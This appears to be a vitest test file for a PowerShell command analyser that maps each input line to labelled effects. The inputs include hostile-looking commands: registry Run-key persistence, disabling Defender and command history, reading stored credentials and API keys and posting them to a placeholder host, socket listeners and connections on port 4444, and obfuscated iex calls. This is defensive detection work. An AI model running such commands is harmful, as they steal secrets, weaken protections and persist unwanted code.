import { expect, test } from "vitest";
import { powershell } from "./read.ts";

// Calls that no case of corpus/ makes: what each does, as it is told.
test.each<[string, readonly string[]]>([
  [
    "Set-Item HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run 'a.exe'",
    [
      "1:1 persist mechanism=registry-run-key target=HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run content=a.exe",
    ],
  ],
  ["Unblock-File a.exe", ["1:1 disable-safeguard safeguard=gatekeeper"]],
  // What a block does hangs on what it is given; a parameter is its own where the caller has one of that name.
  [
    "$t = @{ a = 'x' }; $b = { param($t) Set-Clipboard $t['a'] }; [powershell]::Create().AddScript($b).AddArgument($t).Invoke()",
    ["1:37 write-clipboard content=~□", "1:37 write-clipboard content=x"],
  ],
  ["$t = @{ a = 'x' }; foreach ($k in $t.Keys) { Set-Clipboard $t[$k] }", ["1:46 write-clipboard content=x"]],
  [
    "$t = 'x'; Start-Job -ScriptBlock { param($t) Set-Clipboard $t } -ArgumentList $t",
    ["1:46 write-clipboard content=x"],
  ],
  ["Set-PSReadLineOption -HistorySaveStyle SaveNothing", ["1:1 disable-safeguard safeguard=history"]],
  ["Uninstall-WindowsFeature Windows-Defender", ["1:1 disable-safeguard safeguard=antivirus"]],
  ["Get-StoredCredential -Target x", ["1:1 read-secret secret=keychain:x"]],
  [
    "$k = Get-Secret -Name x; irm https://a.example -Method Post -Body $k",
    [
      "1:6 read-secret secret=keychain:x",
      "1:26 send channel=http destination=https://a.example payload=[~□<keychain:x>]",
    ],
  ],
  ["Enter-PSSession -ComputerName 192.0.2.7", ["1:1 connect peer=192.0.2.7"]],
  ["iex ([char][convert]::ToInt32('69',16) + 'ex')", ["1:1 evaluate language=powershell code=iex{char-codes}"]],
  ["$l = New-Object System.Net.Sockets.TcpListener('0.0.0.0',4444)", ["1:6 listen host=0.0.0.0 port=4444"]],
  ["$s = New-Object Net.Sockets.TcpClient; $s.Connect('192.0.2.7', 4444)", ["1:40 connect peer=192.0.2.7:4444"]],
  [
    "$r = [Net.WebRequest]::Create('https://a.example'); $r.Method='POST'; $s = $r.GetRequestStream(); $s.Write($env:API_KEY); $r.GetResponse()",
    [
      "1:108 read-secret secret=environment:API_KEY",
      "1:123 send channel=http destination=https://a.example payload=[~□<environment:API_KEY>]",
    ],
  ],
  ["[string]$x, $y = 'iex', 'id'; & $x $y", ["1:31 evaluate language=powershell code=id"]],
  ["& ([regex]::Unescape('\\x69e\\u0078')) 'id'", ["1:1 evaluate language=powershell code=id"]],
  ["iex ([regex]::Replace('iQd','Q',''))", ["1:1 evaluate language=powershell code=id"]],
  ["iex ([string]::Concat('i','d'))", ["1:1 evaluate language=powershell code=id"]],
  ["iex ([string]::new(@('i','d')))", ["1:1 evaluate language=powershell code=id"]],
  ["iex 'idabc'.Remove(2)", ["1:1 evaluate language=powershell code=id"]],
  ["Import-Module ./x.psm1", ["1:1 import x.psm1"]],
  [
    "$v = New-Object Windows.Security.Credentials.PasswordVault; $v.RetrieveAll()",
    ["1:61 read-secret secret=keychain:every entry"],
  ],
  ["[Windows.Forms.Clipboard]::SetText('x')", ["1:1 write-clipboard content=x"]],
  [
    "Send-MailMessage -To x@a.example -Subject s -Body b -SmtpServer m.a.example -Attachments notes.txt",
    [
      "1:1 read-file path=notes.txt",
      "1:1 send channel=mail destination=x@a.example payload=[s, b, ~□<file:notes.txt>]",
    ],
  ],
  ["[IO.Compression.ZipFile]::ExtractToDirectory('a.zip','out')", ["1:1 extract-archive archive=a.zip password=null"]],
  ["$host.UI.PromptForCredential('x','password','','')", ["1:1 escalate how=password-prompt"]],
  ["Remove-Item ([IO.Path]::Combine('a','b'))", ["1:1 delete-file path=a\\b recursive=false"]],
  ["Get-Content ([IO.Path]::GetTempPath() + 'x')", ["1:1 read-file path=~\\AppData\\Local\\Temp\\x"]],
  ["$x.('Inv'+$env:Y).Invoke('a')", ["1:11 read-secret secret=environment:Y"]],
  ["iex (@{a='id'}.GetEnumerator())", ["1:1 evaluate language=powershell code=id"]],
])("%s", (text, expected) => {
  expect(powershell(text).lines).toEqual(expected);
});
